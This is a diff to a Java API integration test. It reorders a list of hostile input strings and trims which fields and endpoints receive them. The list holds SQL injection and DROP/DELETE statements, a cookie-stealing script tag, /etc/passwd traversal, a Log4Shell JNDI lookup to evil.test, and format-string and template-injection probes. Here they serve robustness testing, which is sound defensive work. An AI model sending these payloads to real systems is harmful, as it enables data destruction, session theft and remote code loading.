@@ -43,11 +43,15 @@ class HostileInputIT {
                 || path.startsWith("headers.") || path.startsWith("args[");
     }
 
-    /** Injection and oddity strings that are well-formed text. */
-    private static final List<String> HOSTILE_TEXT = List.of("' OR '1'='1' --", "'; DROP TABLE monitors; --",
-            "<script>alert(document.cookie)</script>", "../../../../etc/passwd", "${jndi:ldap://evil.test/a}",
-            "%s%s%s%n", "{{7*7}}", "\u202Egnp.exe", "zero\u200Bwidth", "😀🔥 emoji", "e\u0301 combining",
-            "\uFEFFbom", "\\u0000 escaped", "Robert'); DELETE FROM users;--", "ﾟ半角 ｶﾀｶﾅ", "𝕦𝕟𝕚𝕔𝕠𝕕𝕖");
+    /**
+     * Injection and oddity strings that are well-formed text; free-text fields get the first eight (storing each
+     * costs a write), the rest get all.
+     */
+    private static final List<String> HOSTILE_TEXT = List.of("'; DROP TABLE monitors; --",
+            "<script>alert(document.cookie)</script>", "${jndi:ldap://evil.test/a}", "\u202Egnp.exe",
+            "zero\u200Bwidth", "😀🔥 emoji", "\\u0000 escaped", "%s%s%s%n", "' OR '1'='1' --",
+            "../../../../etc/passwd", "{{7*7}}", "e\u0301 combining", "\uFEFFbom", "Robert'); DELETE FROM users;--",
+            "ﾟ半角 ｶﾀｶﾅ", "𝕦𝕟𝕚𝕔𝕠𝕕𝕖");
 
     @LocalServerPort
     int port;
@@ -135,12 +139,14 @@ class HostileInputIT {
     @Test
     void hostileTextIsRefusedWhereItBreaksTheSyntaxAndStoredVerbatimWhereItIsJustText() {
         SoftAssertions soft = new SoftAssertions();
-        for (Case c : cases()) {
+        // PUT of a monitor validates exactly like POST (see MonitorValidationIT); sending it all again adds time only.
+        for (Case c : cases().stream().filter(c -> !c.endpoint().template().equals("/api/v1/monitors/{monitor}"))
+                .toList()) {
             for (String path : leafPaths(c.body(), "")) {
                 if (!(valueAt(c.body(), path).isString())) {
                     continue;
                 }
-                for (String text : HOSTILE_TEXT) {
+                for (String text : isFreeText(path) ? HOSTILE_TEXT.subList(0, 8) : HOSTILE_TEXT) {
                     ApiClient.Response response = send(c, substitute(c.body(), path, JSON.writeValueAsString(text)));
                     soft.assertThat(response.status()).as("%s %s=%s → %s", c.endpoint(), path, text, response)
                             .isLessThan(500);
